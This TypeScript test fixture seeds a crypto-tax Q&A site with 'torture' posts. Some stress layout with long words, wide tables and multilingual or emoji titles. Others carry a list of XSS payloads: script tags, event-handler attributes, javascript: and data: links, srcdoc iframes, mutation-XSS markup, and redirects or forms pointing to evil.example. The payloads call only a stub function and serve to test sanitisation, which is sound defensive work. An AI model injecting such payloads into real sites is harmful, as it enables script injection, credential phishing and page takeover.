import type { Member, Site } from './site.ts';

const WORD = 'Donaudampfschifffahrtselektrizitätenhauptbetriebswerkbauunterbeamtengesellschaft'
  .repeat(4)
  .slice(0, 300);
const LONG_NAME = 'W'.repeat(20);

const TITLES = [
  'هل تخضع مكافآت التخزين للضريبة عند استلامها أم عند بيعها في نهاية السنة المالية؟',
  '质押奖励在收到时是否应作为收入申报，以及之后出售时如何计算成本基础和持有期限？',
  '🚀🚀🚀 Who taxes 🧑‍👩‍👧‍👦 airdrops 🪂 and 🐕 coins 💰💰💰 in 2026? 🇩🇪🇬🇧🇺🇸',
];

const WIDE = [
  '# A heading',
  '',
  `| ${Array.from({ length: 14 }, (_, column) => `Quantity of lot ${column}`).join(' | ')} |`,
  `|${'---:|'.repeat(14)}`,
  `| ${Array.from({ length: 14 }, (_, column) => `${column}.123456789012`).join(' | ')} |`,
  '',
  '```',
  `const gain = ${'lots[0].quantity * (price - lots[0].cost) + '.repeat(12)}0;`,
  '```',
  '',
  `Inline \`${'x'.repeat(200)}\` and https://example.com/${'path/'.repeat(40)} and ${WORD}.`,
  '',
  '> A quote\n>\n> > within a quote\n',
  '1. One\n   - nested\n     - deeper\n       - deepest',
].join('\n');

/** Runs `window.hacked()` wherever a browser would let a post run something. */
export const ATTACKS = [
  '<script>hacked()</script>',
  '<img src=x onerror="hacked()">',
  '<svg onload="hacked()"><script>hacked()</script></svg>',
  '<a href="javascript:hacked()">javascript link</a>',
  '<a href="java\tscript:hacked()">tab link</a>',
  '<a href="data:text/html,<script>hacked()</script>">data link</a>',
  '<iframe srcdoc="<script>parent.hacked()</script>"></iframe>',
  '<math><mtext><style><img src=x onerror="hacked()"></style></mtext></math>',
  '<details open ontoggle="hacked()">x</details>',
  '<input autofocus onfocus="hacked()">',
  '<form action="https://evil.example/"><button formaction="javascript:hacked()">Log in</button></form>',
  '<style>body { display: none }</style><link rel="stylesheet" href="https://evil.example/x.css">',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<p style="position:fixed;inset:0;background:red">over everything</p>',
  '<h1 id="main" class="skip">A second main</h1>',
  '</div></div></script><script>hacked()</script><!-- <p unclosed <b><table><td>',
];

const MARKDOWN_ATTACKS =
  '[link](javascript:hacked()) ![image](javascript:hacked()) <javascript:hacked()> [x](https://example.com "onmouseover=hacked()")';

/** A site whose posts are as bad as posts get. */
export interface Torture {
  member: Member;
  /**
   * The long word, the wide table, the long code line, with answers and comments of the same kind.
   */
  wideId: string;
  /** The attacks, as Markdown of a member and as imported HTML. */
  hostileId: string;
}

export async function makeTorture(site: Site): Promise<Torture> {
  const member = await site.signUp({ username: LONG_NAME, tier: 'premium' });
  const other = await site.signUp({ username: 'm'.repeat(20) });
  for (const title of TITLES)
    await site.ask(other, {
      title,
      description: `${title} `.repeat(8),
      tags: ['crypto-tax', 'z'.repeat(35), '质押', 'العملات'],
    });

  const wide = await site.ask(other, {
    title: WORD.slice(0, 200),
    description: WIDE,
    tags: ['y'.repeat(35), 'x'.repeat(35), 'cross-chain', 'business-expenses', 'cost-basis'],
  });
  // An imported title may be longer than one typed here.
  await site.sql('update questions set title = $1 where id = $2', [WORD, wide.id]);
  await site.sql(
    'update question_stats set votes = 1234567, view_count = 12345678 where question_id = $1',
    [wide.id],
  );
  await site.sql('update user_stats set points = 1234567 where user_id = $1', [other.id]);
  const best = await site.answer(member, wide, WIDE);
  await site.accept(other, best);
  await site.answer(other, wide, TITLES.join('\n\n'));
  await site.comment(member, wide, `${WORD} \`${'code'.repeat(60)}\` ${TITLES.join(' ')}`);
  await site.bookmark(member, wide);

  const hostile = await site.ask(other, {
    title: '<script>hacked()</script><img src=x onerror=hacked()>',
    description: `${ATTACKS.join('\n\n')}\n\n${MARKDOWN_ATTACKS}`,
  });
  await site.comment(member, hostile, `${ATTACKS.join(' ')} ${MARKDOWN_ATTACKS}`);
  const imported = await site.answer(member, hostile, 'imported');
  await site.sql(
    "update answers set source = $1, source_format = 'html', html = null, html_version = null where id = $2",
    [ATTACKS.join('\n'), imported.id],
  );
  await site.call(
    'PATCH /api/auth/user',
    { body: { firstName: '<script>hacked()</script>', bio: ATTACKS.join('').slice(0, 480) } },
    member,
  );
  // Far from where a relative time changes: a test that waits must not see one change.
  for (const table of ['questions', 'question_stats', 'answers', 'comments', 'bookmarks'])
    await site.sql(`update ${table} set created_at = now() - interval '3 hours 30 minutes'`);
  return { member, wideId: wide.id, hostileId: hostile.id };
}
